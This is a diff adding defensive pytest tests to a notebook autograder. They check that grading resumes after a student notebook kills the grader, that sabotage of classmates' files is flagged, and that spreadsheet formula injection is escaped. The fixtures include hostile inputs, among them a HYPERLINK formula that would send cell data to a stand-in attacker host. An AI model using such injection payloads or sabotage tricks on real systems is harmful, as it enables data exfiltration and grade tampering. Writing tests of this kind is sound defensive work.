@@ -3,6 +3,8 @@
 import csv
 import io
 import json
+import os
+import signal
 from pathlib import Path
 
 import pytest
@@ -236,3 +238,133 @@ def test_progress_bar_with_eta_goes_to_stderr(tmp_path, capsys):
     assert captured.out == ""
     final = captured.err.replace("\r", "\n").strip().splitlines()[-1]
     assert final.startswith("grading: 100%") and " 3/3 [" in final and "<00:00" in final  # elapsed<remaining
+
+
+KILLER = """
+import sys
+sys.path.insert(0, {tests!r})
+from grading_fakes import fake_grade, lesson03_outline
+from modlab.grading import batch
+from modlab.grading.intake import collect
+spec = lesson03_outline()
+batch.grade_batch(collect({upload!r}, spec.lesson, {work!r}), spec, {out!r}, jobs=1, grade=fake_grade, progress=False)
+"""
+
+
+def test_a_killed_grader_loses_nothing_and_a_rerun_resumes_and_flags_the_culprit(tmp_path):
+    import subprocess
+    import sys
+
+    upload, out = tmp_path / "upload", tmp_path / "out"
+    write_fake(upload / "alice.ipynb", correct=ALL)
+    write_fake(upload / "bob.ipynb", correct=["q1-check"], kill_grader=True)  # a notebook that kill -9s the grader
+    write_fake(upload / "carol.ipynb", correct=["q2-check"])
+    script = KILLER.format(tests=str(Path(__file__).parent), upload=str(upload), work=str(out / "work"), out=str(out))
+    # Its own session, no pipes: the pool's orphaned workers are ended with their group, and cannot hold us.
+    run = subprocess.Popen([sys.executable, "-c", script], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
+                           start_new_session=True)
+    try:
+        assert run.wait(timeout=120) == -9
+    finally:
+        try:
+            os.killpg(run.pid, signal.SIGKILL)
+        except ProcessLookupError:
+            pass
+    # alice was graded before bob's turn: her result is on disk, complete.
+    assert sorted(p.name for p in (out / "results").glob("*.json")) == ["alice.json"]
+    assert batch.load_results(out)[0].auto_score == 9
+
+    # The re-run keeps alice (unchanged), does not run bob again (he was graded alone when it stopped), grades carol.
+    summary = _grade(tmp_path, upload, jobs=2)
+    assert summary.newly_graded == 1
+    rows = {r["student"]: r for r in csv.DictReader(open(out / "grades.csv", encoding="utf-8"))}
+    assert [(s, rows[s]["auto total"], rows[s]["flags"]) for s in rows] == [
+        ("alice", "9", ""), ("bob", "0", batch.STOPPED_ALONE), ("carol", "1", "")]
+    assert batch.STOPPED_ALONE.startswith("the previous run stopped while grading this notebook")
+    assert summary.notes[:2] == [f"{out} held an earlier run: resumed and merged into it",
+                                 "kept 1 result(s) of the earlier run whose notebook is unchanged (--regrade grades them again)"]
+
+    # A changed notebook is graded again; --regrade grades everyone (bob no longer kills: he is fixed).
+    write_fake(upload / "bob.ipynb", correct=["q1-check", "q2-check"])
+    again = _grade_with(tmp_path, upload, regrade=True)
+    assert again.newly_graded == 3
+    rows = {r["student"]: r for r in csv.DictReader(open(out / "grades.csv", encoding="utf-8"))}
+    assert (rows["bob"]["auto total"], rows["bob"]["flags"]) == ("2", "")
+
+
+def _grade_with(tmp_path, upload, **options):
+    spec = lesson03_outline()
+    submissions = collect(upload, spec.lesson, tmp_path / "out" / "work")
+    return batch.grade_batch(submissions, spec, tmp_path / "out", jobs=1, grade=fake_grade, progress=False,
+                             source=upload, **options)
+
+
+def test_an_upload_with_some_students_merges_into_the_class_folder(tmp_path):
+    upload = _upload(tmp_path / "upload")
+    _grade(tmp_path, upload, jobs=2)
+    only_bob = tmp_path / "bob_only"
+    write_fake(only_bob / "bob" / "03_amnesty_poll.ipynb", correct=ALL)
+    summary = _grade(tmp_path, only_bob, jobs=1)
+    rows = {r["student"]: r["auto total"] for r in csv.DictReader(open(tmp_path / "out" / "grades.csv", encoding="utf-8"))}
+    assert rows == {"alice": "9", "bob": "9", "carol": "0", "dora": "0", "erin": "0"}
+    assert summary.notes[-1] == ("merged by student: kept 4 student(s) of earlier runs who are not in this upload "
+                                 "(alice, carol, dora, erin)")
+    assert sorted(p.stem for p in (tmp_path / "out" / "feedback").glob("*.html")) == ["alice", "bob", "carol", "dora", "erin"]
+
+
+def test_a_notebook_rewriting_others_copies_and_the_upload_changes_no_grade_and_is_flagged(tmp_path):
+    upload, out = tmp_path / "upload", tmp_path / "out"
+    sabotaged = json.dumps({"correct": []})
+    targets = [upload / "bob.ipynb", upload / "carol.ipynb", out / "work" / "submissions" / "bob.ipynb",
+               out / "work" / "submissions" / "carol.ipynb"]
+    write_fake(upload / "aaron.ipynb", correct=["q1-check"], overwrite={str(p): sabotaged for p in targets})
+    write_fake(upload / "bob.ipynb", correct=ALL)
+    write_fake(upload / "carol.ipynb", correct=ALL)
+    summary = _grade_with(tmp_path, upload)
+    rows = {r["student"]: r for r in csv.DictReader(open(out / "grades.csv", encoding="utf-8"))}
+    assert {s: r["auto total"] for s, r in rows.items()} == {"aaron": "1", "bob": "9", "carol": "9"}  # honest grades
+    for student in ("bob", "carol"):
+        assert rows[student]["flags"] == "; ".join([
+            batch.COPY_CHANGED, batch.UPLOAD_CHANGED.format(files=f"{student}.ipynb")])
+    assert "the upload changed while grading: possible tampering (bob.ipynb)" in rows["bob"]["flags"]
+    assert rows["aaron"]["flags"] == ""
+    assert summary.flagged == 2 and "the upload changed while grading (2 file(s))" in summary.notes[-1]
+    # The working copies left in work/ are the honest ones again.
+    assert json.loads((out / "work" / "submissions" / "bob.ipynb").read_text())["correct"] == ALL
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_escaped_and_ids_read_back(tmp_path):
+    upload = tmp_path / "upload"
+    formula = '=HYPERLINK("http://evil.example/?"&A2,"click")'
+    write_fake(upload / "-1+1" / "03_amnesty_poll.ipynb", correct=ALL, text={"r1": formula, "r2": "@SUM(1+1)"})
+    write_fake(upload / "lopezana_12345_67890_03_amnesty_poll.ipynb", correct=ALL)
+    write_fake(upload / "kimlee_LATE_23456_78901_03_amnesty_poll.ipynb", correct=[])
+    _grade(tmp_path, upload, jobs=1)
+    out = tmp_path / "out"
+    rows = list(csv.reader(open(out / "grades.csv", encoding="utf-8")))
+    assert [r[:2] for r in rows[1:]] == [["'-1_1", ""], ["kimlee", "23456"], ["lopezana", "12345"]]
+    # kimlee wrote nothing: blank answers score 0, so nothing is left to grade by hand.
+    assert rows[2][-3:] == ["complete", "", "the LMS marked this submission late (a note from the LMS; modlab grade "
+                                            "applied no penalty)"]
+    sheet = list(csv.DictReader(open(out / "manual_grading.csv", encoding="utf-8-sig")))
+    assert [(r["student"], r["question"], r["answer"]) for r in sheet[:1]] == [("'-1_1", "r1", "'" + formula)]
+    assert [r["answer"] for r in sheet if r["student"] == "'-1_1"] == ["'" + formula, "'@SUM(1+1)"]
+    filled = _fill(out / "manual_grading.csv", tmp_path / "filled.csv",
+                   {("'-1_1", "r1"): {"score": "2", "comment": "+ good"}, ("'-1_1", "r2"): {"score": "1"}})
+    summary = batch.import_manual(filled, out)
+    assert summary.notes[0].startswith("imported 2 hand score(s) from")
+    rows = {r["student"]: r for r in csv.DictReader(open(out / "grades.csv", encoding="utf-8"))}
+    assert (rows["'-1_1"]["total"], rows["'-1_1"]["status"]) == ("12", "complete")
+    assert "Comment from your instructor: + good" in (out / "feedback" / "-1_1.html").read_text()
+    page = (out / "feedback" / "kimlee.html").read_text()
+    assert "Notes from the course website" in page and "Notes from the grader" not in page
+
+
+def test_a_score_with_a_thousands_separator_is_refused(tmp_path):
+    _grade(tmp_path, _upload(tmp_path / "upload"), jobs=1)
+    sheet = tmp_path / "s.csv"
+    sheet.write_text("student,question,score,comment\nalice,r1,\"1,000\",\nbob,r1,\"2,5\",\n")
+    with pytest.raises(ManualSheetError) as caught:
+        batch.import_manual(sheet, tmp_path / "out")
+    assert caught.value.problems == [
+        "row 2: score '1,000' is not a number of points (a comma is read only as a decimal comma, as in 2,5)"]
